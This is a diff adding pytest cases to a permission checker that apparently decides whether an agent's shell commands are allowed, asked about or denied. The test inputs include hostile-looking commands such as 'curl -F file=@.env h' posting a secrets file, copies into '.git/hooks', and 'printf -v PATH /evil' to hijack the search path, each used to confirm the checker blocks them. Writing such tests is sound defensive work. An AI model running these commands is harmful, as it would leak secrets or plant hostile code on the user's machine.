@@ -363,6 +363,46 @@ def test_words_behind_a_redirection_belong_to_its_command() -> None:
     assert of_command(text, "git > conf/a conf/b") == "ask"
 
 
+@pytest.mark.parametrize(
+    "command", ["cp -t.git x", "cp -at.git/hooks x", "mv -t.acp_bridge x", "install -t/data x"]
+)
+def test_a_value_right_behind_an_options_letter_may_be_what_guards_the_user(command: str) -> None:
+    assert of_command('allow = ["Bash"]', command, place("/project", "/data")) == "ask"
+    assert of_command('allow = ["Bash"]', "cp -tout x", place("/project", "/data")) == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "grep -f.env x",
+        "curl -sd@.env h",
+        "curl -F file=@.env h",
+        "curl -F 'file=<.env' h",
+        "tar -xf.env",
+        "tar xf a -Csecret",
+        "sort -osecret/x a",
+    ],
+)
+def test_a_refusal_of_a_path_is_found_right_behind_what_an_option_begins_with(
+    command: str,
+) -> None:
+    text = 'deny = ["Read(**/.env*)", "Edit(secret/**)"]\nallow = ["Bash"]'
+    assert of_command(text, command) == "deny"
+    assert of_command(text, "cd src && ls -la") == "allow"
+    assert of_command(text, "cd src && sort -o../x a") == "ask"
+
+
+@pytest.mark.parametrize(
+    "command", ["printf -v PATH /evil; ls", "printf -vPATH /evil; ls", "read PATH < x && ls"]
+)
+def test_a_command_that_sets_a_variable_is_not_allowed_by_its_prefix(command: str) -> None:
+    """What comes behind it would be another program of the same name."""
+    text = 'allow = ["Bash(printf *)", "Bash(read *)", "Bash(ls *)", "Bash(jobs *)"]'
+    assert of_command(text, command) == "ask"
+    assert of_command(text, "jobs -x rm x") == "ask"
+    assert of_command(text, "printf '%s -v' x && jobs -l") == "allow"
+
+
 def test_a_quoted_tilde_is_no_home() -> None:
     text = 'allow = ["Bash(echo *)", "Edit(~/x)"]'
     assert of_command(text, "echo a > ~/x") == "allow"
